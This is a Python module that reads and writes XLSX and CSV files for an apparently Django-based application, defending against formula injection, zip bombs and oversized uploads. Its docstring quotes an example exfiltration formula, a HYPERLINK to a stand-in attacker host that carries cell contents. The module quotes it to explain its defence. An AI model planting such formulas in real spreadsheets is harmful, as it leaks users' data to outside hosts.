"""Reading and writing spreadsheets: XLSX files with openpyxl, and CSV.

Every XLSX and CSV file Sinergi hands out is written here, cell by cell through `safe_cell`:
a text that a spreadsheet program would run as a formula (it starts with = + - @, a tab or a
carriage return) gets a leading apostrophe, as OWASP recommends against "CSV injection". A
group named `=HYPERLINK("http://evil.example/?x="&A2)` is then shown as text, never followed.
The readers (`read_rows`, `clean_text`) drop that apostrophe again, so an export imports back.
"""

import csv
import datetime
import io
import re
import zipfile
from dataclasses import dataclass

from django.utils.translation import gettext as _
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# An .xlsx file is a zip archive; zip archives start with these bytes.
ZIP_SIGNATURE = b"PK\x03\x04"
# A small upload can unpack to a huge archive (a "zip bomb"): refuse beyond this.
MAX_UNPACKED_BYTES = 50 * 1024 * 1024
# Columns read from each row; whatever lies further right is ignored.
MAX_COLUMNS = 40


class SpreadsheetError(Exception):
    """An upload that cannot be read as a spreadsheet; the message is for the user."""

    def __init__(self, message):
        super().__init__(message)
        self.message = message


@dataclass(frozen=True)
class TemplateColumn:
    """A column of an import template."""

    header: str
    # Allowed values, offered as a drop-down and listed on the second sheet.
    choices: tuple[str, ...] = ()
    # "text" keeps digits as typed (NIP, phone numbers with a leading 0); "date" shows dates.
    kind: str = ""
    # Shown as a comment on the header cell.
    note: str = ""
    width: int = 20


# The first characters with which a spreadsheet program reads a cell as a formula (tab and
# carriage return: some programs skip them and read what follows).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number ("-5", "+62", "-6.93") cannot be a formula: it stays as it is, so negative
# figures written as text (CSV) are still read as numbers.
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)")


def safe_cell(value):
    """`value` as it may be written in a spreadsheet cell: a text that would start a formula
    gets a leading apostrophe; numbers, dates, Decimals and None are returned unchanged."""
    formula = isinstance(value, str) and value.startswith(FORMULA_STARTS)
    if formula and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def clean_text(value: str):
    """A text read from a cell: without the apostrophe `safe_cell` put before a formula
    character, stripped; None when empty."""
    if value.startswith("'") and value[1:2] and value[1:].startswith(FORMULA_STARTS):
        value = value[1:]
    return value.strip() or None


def _xlsx_cell(sheet, value, font=None):
    """A cell for `sheet` (of any mode) holding `value` made safe. A text is always stored as
    text: openpyxl would otherwise store one starting with "=" as a formula and "#N/A" as an
    error; characters XML cannot hold are dropped rather than failing the whole file."""
    value = safe_cell(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    if font is not None:
        cell.font = font
    return cell


def write_row(sheet, values, font=None):
    """Append `values` to the openpyxl `sheet` as one row of safe cells: the only way Sinergi
    writes cells into a sheet."""
    sheet.append([None if v is None else _xlsx_cell(sheet, v, font) for v in values])


def write_cell(sheet, row: int, column: int, value, font=None):
    """Set one cell of the (not write-only) `sheet` to `value`, made safe as by `write_row`."""
    cell = sheet.cell(row=row, column=column)
    safe = _xlsx_cell(sheet, value)
    cell.value = safe.value
    cell.data_type = safe.data_type
    if font is not None:
        cell.font = font
    return cell


def workbook_to_bytes(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def workbook_bytes(title: str, header: list, rows) -> bytes:
    """One sheet with a bold header row and frozen panes, as the bytes of an .xlsx file."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title[:31])
    sheet.freeze_panes = "A2"
    write_row(sheet, [str(h) for h in header], Font(bold=True))
    for row in rows:
        write_row(sheet, row)
    return workbook_to_bytes(workbook)


# Rows of CSV text handed to the response at once: a piece per line made the server write
# each line to the socket by itself (429,090 writes for one national year).
CSV_ROWS_PER_PIECE = 1000
FORMULA_FIRST = frozenset(FORMULA_STARTS)


def csv_lines(header: list, rows, text_columns=None):
    """A CSV file in pieces of CSV_ROWS_PER_PIECE lines (for a streaming response), every
    field made safe, with a byte-order mark first so that spreadsheet programs read it as
    UTF-8. With `text_columns` (indexes), only those columns are made safe: the caller vouches
    that the others hold numbers or its own labels, never text someone typed."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write("\ufeff")
    writer.writerow([safe_cell(str(h)) for h in header])
    batch = []
    for row in rows:
        if text_columns is None:
            row = [safe_cell(value) for value in row]
        else:
            for i in text_columns:
                value = row[i]
                if type(value) is str and value[:1] in FORMULA_FIRST:
                    row = list(row)
                    row[i] = safe_cell(value)
        batch.append(row)
        if len(batch) >= CSV_ROWS_PER_PIECE:
            writer.writerows(batch)
            batch.clear()
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    writer.writerows(batch)
    yield buffer.getvalue()


def csv_text(header: list, rows) -> str:
    """The whole CSV file of `csv_lines` as one text."""
    return "".join(csv_lines(header, rows))


def template_bytes(
    title: str, columns: list[TemplateColumn], lists_title: str, max_rows: int = 1000, rows=()
) -> bytes:
    """The bytes of `template_workbook`."""
    return workbook_to_bytes(template_workbook(title, columns, lists_title, max_rows, rows))


def template_workbook(
    title: str, columns: list[TemplateColumn], lists_title: str, max_rows: int = 1000, rows=()
) -> Workbook:
    """An import template: the header row on the first sheet, then `rows` (values already in
    the sheet, such as stored figures), and for every column with choices a drop-down over
    `max_rows` rows whose values are listed on a second sheet."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title[:31]
    sheet.freeze_panes = "A2"
    lists = workbook.create_sheet(lists_title[:31])
    bold = Font(bold=True)
    list_column = 0
    for index, column in enumerate(columns, start=1):
        letter = get_column_letter(index)
        cell = write_cell(sheet, 1, index, column.header, bold)
        if column.note:
            cell.comment = Comment(column.note, "Sinergi")
        dimension = sheet.column_dimensions[letter]
        dimension.width = column.width
        if column.kind == "text":
            dimension.number_format = "@"
        elif column.kind == "date":
            dimension.number_format = "DD/MM/YYYY"
        if column.choices:
            list_column += 1
            list_letter = get_column_letter(list_column)
            write_cell(lists, 1, list_column, column.header, bold)
            for row, choice in enumerate(column.choices, start=2):
                write_cell(lists, row, list_column, choice)
            lists.column_dimensions[list_letter].width = column.width
            last = len(column.choices) + 1
            sheet_name = lists.title.replace("'", "''")
            validation = DataValidation(
                type="list",
                formula1=f"'{sheet_name}'!${list_letter}$2:${list_letter}${last}",
                allow_blank=True,
            )
            sheet.add_data_validation(validation)
            validation.add(f"{letter}2:{letter}{max_rows + 1}")
    for row in rows:
        write_row(sheet, row)
    return workbook


def read_rows(uploaded_file, max_rows: int) -> tuple[list, list[tuple[int, list]]]:
    """The header and the rows of the first sheet of an .xlsx upload.

    Rows come as (row number, values); empty rows are left out, text is stripped and empty
    text becomes None, dates come as `datetime.date`. Raises SpreadsheetError, with a message
    for the user, when the file is not a readable .xlsx, is empty or has more than `max_rows`
    rows below the header."""
    uploaded_file.seek(0)
    if uploaded_file.read(4) != ZIP_SIGNATURE:
        raise SpreadsheetError(_("This file is not an Excel workbook (.xlsx)."))
    uploaded_file.seek(0)
    try:
        with zipfile.ZipFile(uploaded_file) as archive:
            unpacked = sum(info.file_size for info in archive.infolist())
    except (zipfile.BadZipFile, OSError, ValueError):
        raise SpreadsheetError(_("This file is not an Excel workbook (.xlsx).")) from None
    if unpacked > MAX_UNPACKED_BYTES:
        raise SpreadsheetError(_("This workbook is too large to read."))
    uploaded_file.seek(0)
    try:
        workbook = load_workbook(uploaded_file, read_only=True, data_only=True)
        try:
            header, rows = _numbered_rows(workbook.worksheets[0], max_rows)
        finally:
            workbook.close()
    except SpreadsheetError:
        raise
    # A damaged or foreign file can fail anywhere in openpyxl and its XML parser, with many
    # kinds of exception; all of them mean the same to the user.
    except Exception:
        raise SpreadsheetError(
            _("This file could not be read as an Excel workbook (.xlsx); it may be damaged.")
        ) from None
    if header is None:
        raise SpreadsheetError(_("The first row of the first sheet must hold the column headers."))
    return header, rows


def _numbered_rows(sheet, max_rows):
    header, rows = None, []
    lines = sheet.iter_rows(max_col=MAX_COLUMNS, values_only=True)
    for number, line in enumerate(lines, start=1):
        values = [_clean(value) for value in line]
        if number == 1:
            header = values if any(v is not None for v in values) else None
        elif any(v is not None for v in values):
            if number > max_rows + 1:
                raise SpreadsheetError(
                    _("The file has more than %(count)d rows; split it into several files.")
                    % {"count": max_rows}
                )
            rows.append((number, values))
    return header, rows


def _clean(value):
    if isinstance(value, str):
        return clean_text(value)
    if isinstance(value, datetime.datetime):
        return value.date()
    return value


def header_key(text) -> str:
    """A column header compared without regard to case, spaces or a "required" star."""
    return " ".join(str(text).split()).casefold().rstrip("*").strip()


def read_upload(upload, max_rows: int, allow_csv=False) -> tuple[list, list[tuple[int, list]]]:
    """The header and the numbered rows of an .xlsx upload, or, with `allow_csv`, of a UTF-8
    .csv upload, told apart by their content (as `read_rows`)."""
    upload.seek(0)
    head = upload.read(len(ZIP_SIGNATURE))
    upload.seek(0)
    if head == ZIP_SIGNATURE or not allow_csv:
        return read_rows(upload, max_rows)
    return read_csv(upload, max_rows)


def read_csv(upload, max_rows: int) -> tuple[list, list[tuple[int, list]]]:
    """The header and the rows of a UTF-8 .csv upload, as `read_rows` gives them (values
    are text). The delimiter is a comma or a semicolon, whichever the first line has more of."""
    try:
        text = upload.read().decode("utf-8-sig")
    except UnicodeDecodeError:
        text = None
    if text is None or "\x00" in text:
        raise SpreadsheetError(
            _(
                "This file is neither an Excel workbook (.xlsx) nor a CSV file in UTF-8. Save it "
                "as an Excel workbook, or as “CSV UTF-8”."
            )
        )
    first_line = text.split("\n", 1)[0]
    # Spreadsheets set to Indonesian write CSV with semicolons, as the comma is their decimal.
    delimiter = ";" if first_line.count(";") > first_line.count(",") else ","
    header, rows = None, []
    try:
        records = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for number, record in enumerate(records, start=1):
            values = [clean_text(value) for value in record[:MAX_COLUMNS]]
            if number == 1:
                header = values if any(v is not None for v in values) else None
            elif any(v is not None for v in values):
                if number > max_rows + 1:
                    raise SpreadsheetError(
                        _("The file has more than %(count)d rows; split it into several files.")
                        % {"count": max_rows}
                    )
                rows.append((number, values))
    except csv.Error:
        raise SpreadsheetError(_("This CSV file could not be read.")) from None
    if header is None:
        raise SpreadsheetError(_("The first row of the file must hold the column headers."))
    return header, rows
